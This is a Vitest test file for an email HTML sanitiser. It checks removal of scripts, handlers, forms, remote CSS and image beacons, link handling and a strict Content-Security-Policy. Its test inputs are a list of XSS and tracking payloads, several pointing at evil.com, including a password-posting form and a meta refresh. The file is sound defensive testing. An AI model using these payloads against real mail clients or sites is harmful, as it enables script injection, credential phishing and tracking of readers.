import { describe, expect, it } from 'vitest';
import { cleanBody, remotePictures, type Rules } from './clean.ts';
import { pageOf, type Look } from './page.ts';

const rules = (pictures: [string, string][] = []): Rules => ({
  shows: (address) => address.startsWith('https://balcao.test/files/'),
  pictures: new Map(pictures),
});
const clean = (html: string) => cleanBody(html, rules()).innerHTML;
const look: Look = { scheme: 'dark', ink: '#eee', link: '#6cc', line: '#333', muted: '#bbb' };

/** Whatever could run, fetch, send or lead away. */
function dangersIn(body: HTMLElement): string[] {
  const elements = [...body.querySelectorAll('*')];
  const kinds =
    /^(script|form|input|iframe|svg|math|meta|base|link|object|embed|template|video|noscript|style)$/;
  const attributes = elements.flatMap((one) => [...one.attributes]);
  return [
    ...elements.filter(({ localName }) => kinds.test(localName)).map(({ localName }) => localName),
    ...attributes
      .filter(({ name }) => /^on|srcset|background|poster|action/.test(name))
      .map(({ name }) => name),
    ...attributes
      .filter(({ name }) => name !== 'title')
      .map(({ value }) => value)
      .filter((value) => /script|evil|url|data:/.test(value)),
  ];
}

describe('XSS-03: a mail made harmless once more', () => {
  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<svg><script>alert(1)</script></svg>',
    '<svg onload=alert(1)>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<iframe src="https://evil.com"></iframe>',
    '<object data="x"></object><embed src=x>',
    '<form action="https://evil.com"><input name=password><button>Entrar</button></form>',
    '<meta http-equiv=refresh content="0;url=https://evil.com">',
    '<base href="https://evil.com/">',
    '<link rel=stylesheet href="https://evil.com/x.css">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><img src=x onerror=alert(1)></template>',
    '<p style="background:url(https://evil.com/t.gif)">x</p>',
    '<p style="background:u\\72l(https://evil.com/t.gif)">x</p>',
    '<style>@import "https://evil.com/x.css";</style>',
    '<p style="position:fixed;inset:0;background:url(x)">evil</p>',
    '<style>p{background:url(https://evil.com/t.gif)}</style>',
    '<table background="https://evil.com/t.gif"><tr><td>x</td></tr></table>',
    '<img srcset="https://evil.com/t.gif 2x">',
    '<img src="https://evil.com/t.gif">',
    '<video poster="https://evil.com/t.gif"></video>',
    '<input type=image src="https://evil.com/t.gif">',
  ])('%s', (html) => {
    const body = cleanBody(html, rules());
    expect(dangersIn(body)).toEqual([]);
    // What is written out and read again, as the frame does, is the same.
    expect(cleanBody(body.innerHTML, rules()).innerHTML).toBe(body.innerHTML);
  });

  it('keeps what a mail says and how it is laid out', () => {
    const html =
      '<table width="600" bgcolor="#fafafa"><tbody><tr><td align="center" style="color: red">Olá <b>Ana</b></td></tr></tbody></table>';
    expect(clean(html)).toBe(html);
    expect(clean('<o:p>texto</o:p><font color="red">vermelho</font>')).toBe(
      'texto<font color="red">vermelho</font>',
    );
  });

  it('keeps the harmless rules of a style', () => {
    const cleaned = clean('<p style="color:red;background:url(x);margin:0">x</p>');
    expect(cleaned).toBe('<p style="color:red;margin:0">x</p>');
  });

  it('opens links in a page of their own that knows nothing of this one', () => {
    const link = cleanBody(
      '<a href="https://loja.com/p" target="_top" ping="https://evil.com">ver</a>',
      rules(),
    ).firstElementChild;
    expect(link?.getAttribute('target')).toBe('_blank');
    expect(link?.getAttribute('rel')).toContain('noopener noreferrer');
    expect(link?.hasAttribute('ping')).toBe(false);
  });

  it('says where a link leads that promises another place', () => {
    const body = cleanBody('<a href="https://evil.com/x">www.banco.com.br</a>', rules());
    expect(body.textContent).toContain('(evil.com)');
    expect(cleanBody('<a href="https://banco.com.br">banco.com.br</a>', rules()).textContent).toBe(
      'banco.com.br',
    );
  });

  it('EML-15: shows only pictures of this house', () => {
    expect(clean('<img src="https://balcao.test/files/a/b.png">')).toContain(
      'src="https://balcao.test/files/a/b.png"',
    );
    expect(clean('<img src="cid:other">')).toBe('<img data-blocked="">');
  });
});

describe('pictures from elsewhere', () => {
  const html =
    '<img data-remote-src="https://x.com/a.png"><img data-remote-src="https://x.com/a.png"><img data-remote-src="javascript:1">';

  it('are named once, and only those of the web', () => {
    expect(remotePictures(html)).toEqual(['https://x.com/a.png']);
  });

  it('stay away until they were fetched', () => {
    expect(clean(html)).not.toContain('src="https');
    const shown = cleanBody(html, rules([['https://x.com/a.png', 'blob:1']]));
    expect([...shown.querySelectorAll('img')].map((image) => image.getAttribute('src'))).toEqual([
      'blob:1',
      'blob:1',
      null,
    ]);
  });
});

describe('the page of a mail', () => {
  it('forbids everything but styles and pictures of this house', () => {
    const { source } = pageOf('<p>oi</p>', rules(), look, ['https://balcao.test/files/']);
    const policy = /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(source)?.[1];
    expect(policy).toBe(
      "default-src 'none'; img-src data: blob: https://balcao.test/files/; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'",
    );
  });

  it('puts a mail that chose colours on white paper, and a plain one into the colours of the desk', () => {
    const plain = pageOf('<p style="border-color:red;margin:0">oi</p>', rules(), look);
    expect([plain.paper, plain.source.includes('color-scheme:dark')]).toEqual([false, true]);
    for (const html of [
      '<p style="color:#000">oi</p>',
      '<td><div style="margin:0;background-color: #fff">oi</div></td>',
      '<table bgcolor="white"></table>',
      '<font color="black">oi</font>',
    ]) {
      const page = pageOf(html, rules(), look);
      expect([html, page.paper, page.source.includes('color-scheme:light')]).toEqual([html, true, true]);
    }
  });
});
